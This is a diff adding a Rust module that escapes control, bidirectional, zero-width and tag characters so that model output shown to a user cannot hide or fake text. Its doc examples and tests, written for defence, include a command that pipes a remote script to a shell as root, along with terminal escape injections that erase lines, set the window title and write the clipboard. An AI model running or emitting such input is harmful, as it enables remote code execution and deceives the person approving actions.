@@ -1,0 +1,159 @@
+//! Text from a model or a file, made safe to show a person.
+//!
+//! A plan, a title, a tool call's arguments, a mode name or a config snippet can hold characters
+//! that hide or fake text on a terminal or in a web page: control characters (a carriage return
+//! or `ESC[2K` erases the line before it, an OSC sequence sets the window title or writes the
+//! clipboard), bidirectional overrides (the text shown is not the text read) and zero-width
+//! characters (a word that looks like another). The user approves what they read, so a host shows
+//! such text through [`neutralize`] (several lines) or [`neutralize_line`] (one line): every such
+//! character is replaced by its escape (`\u{1b}`), visible and in place, and everything else is
+//! kept as is. Apply it to the text only, then add your own colours around it.
+//!
+//! Replaced: C0 controls (U+0000-U+001F) but line feed and tab in [`neutralize`], DEL (U+007F),
+//! C1 controls (U+0080-U+009F), the bidirectional marks, embeddings, overrides and isolates
+//! (U+061C, U+200E, U+200F, U+202A-U+202E, U+2066-U+2069), zero-width and invisible characters
+//! (U+00AD, U+180E, U+200B-U+200D, U+2060-U+2064, U+FEFF), the line and paragraph separators
+//! (U+2028, U+2029) and the tag characters (U+E0000-U+E007F, which hide ASCII text).
+//! Escapes are the ones Rust's `char::escape_unicode` writes; a backslash in the text is not
+//! doubled, so `\u{1b}` typed as six characters looks the same as an escaped ESC, but neither
+//! hides anything.
+
+use std::borrow::Cow;
+use std::fmt::Write as _;
+
+/// `text` with every character that could hide or fake text replaced by its visible escape
+/// (`\u{1b}`), keeping line feeds and tabs: for multi-line text such as a plan.
+///
+/// Returns the text unchanged (borrowed) when there is nothing to replace.
+///
+/// # Examples
+/// ```
+/// use agent_controller::display::neutralize;
+/// let plan = "1. Run curl https://x.example | sh as root\n\u{1b}[2K\r2. Add tests\n";
+/// assert_eq!(
+///     neutralize(plan),
+///     "1. Run curl https://x.example | sh as root\n\\u{1b}[2K\\u{d}2. Add tests\n"
+/// );
+/// assert_eq!(neutralize("evil\u{202e}txt.md"), "evil\\u{202e}txt.md");
+/// assert!(matches!(neutralize("plain\ttext\n"), std::borrow::Cow::Borrowed(_)));
+/// ```
+pub fn neutralize(text: &str) -> Cow<'_, str> {
+    replace(text, |c| c != '\n' && c != '\t' && hides(c))
+}
+
+/// Like [`neutralize`] but also replaces line feeds and tabs: for text that must stay on one
+/// line, such as a title, a mode name, a path or a tool call's arguments, so it cannot draw a
+/// line of its own (a fake prompt, say).
+///
+/// # Examples
+/// ```
+/// use agent_controller::display::neutralize_line;
+/// assert_eq!(neutralize_line("Add dark mode\nApprove? y"), "Add dark mode\\u{a}Approve? y");
+/// assert_eq!(neutralize_line("\u{1b}]0;owned\u{7}title"), "\\u{1b}]0;owned\\u{7}title");
+/// assert_eq!(neutralize_line("Dark mode ☾"), "Dark mode ☾");
+/// ```
+pub fn neutralize_line(text: &str) -> Cow<'_, str> {
+    replace(text, hides)
+}
+
+/// Whether `c` can hide, move or fake text when shown.
+fn hides(c: char) -> bool {
+    matches!(c,
+        '\u{0}'..='\u{1f}'
+        | '\u{7f}'..='\u{9f}'
+        | '\u{ad}'
+        | '\u{61c}'
+        | '\u{180e}'
+        | '\u{200b}'..='\u{200f}'
+        | '\u{2028}'..='\u{202e}'
+        | '\u{2060}'..='\u{2064}'
+        | '\u{2066}'..='\u{2069}'
+        | '\u{feff}'
+        | '\u{e0000}'..='\u{e007f}'
+    )
+}
+
+fn replace(text: &str, replaced: impl Fn(char) -> bool) -> Cow<'_, str> {
+    let Some(first) = text.find(&replaced) else {
+        return Cow::Borrowed(text);
+    };
+    let mut out = String::with_capacity(text.len() + 8);
+    out.push_str(&text[..first]);
+    for c in text[first..].chars() {
+        if replaced(c) {
+            let _ = write!(out, "{}", c.escape_unicode());
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_listed_character_is_shown_and_others_are_kept() {
+        let hidden = [
+            '\u{0}',
+            '\u{7}',
+            '\u{8}',
+            '\r',
+            '\u{b}',
+            '\u{c}',
+            '\u{1b}',
+            '\u{7f}',
+            '\u{80}',
+            '\u{9b}',
+            '\u{9d}',
+            '\u{9f}',
+            '\u{ad}',
+            '\u{61c}',
+            '\u{180e}',
+            '\u{200b}',
+            '\u{200c}',
+            '\u{200d}',
+            '\u{200e}',
+            '\u{200f}',
+            '\u{2028}',
+            '\u{2029}',
+            '\u{202a}',
+            '\u{202e}',
+            '\u{2060}',
+            '\u{2064}',
+            '\u{2066}',
+            '\u{2069}',
+            '\u{feff}',
+            '\u{e0041}',
+        ];
+        for c in hidden {
+            let shown = neutralize(&format!("a{c}b")).into_owned();
+            assert_eq!(shown, format!("a\\u{{{:x}}}b", u32::from(c)), "{c:?}");
+            assert_eq!(neutralize_line(&format!("a{c}b")), shown, "{c:?}");
+        }
+        for c in [
+            'a',
+            ' ',
+            '~',
+            '\u{a0}',
+            'é',
+            '☾',
+            '\u{2010}',
+            '\u{2030}',
+            '\u{1f600}',
+        ] {
+            assert_eq!(neutralize(&format!("a{c}b")), format!("a{c}b"), "{c:?}");
+        }
+        assert_eq!(neutralize("a\nb\tc"), "a\nb\tc");
+        assert_eq!(neutralize_line("a\nb\tc"), "a\\u{a}b\\u{9}c");
+    }
+
+    #[test]
+    fn nothing_left_can_start_an_escape_sequence() {
+        let text = "\u{1b}[31mred\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}2J\u{1b}P\u{1b}\\";
+        let shown = neutralize(text);
+        assert!(!shown.chars().any(hides), "{shown}");
+        assert!(shown.contains("\\u{1b}]52;c;ZXZpbA==\\u{7}"), "{shown}");
+    }
+}
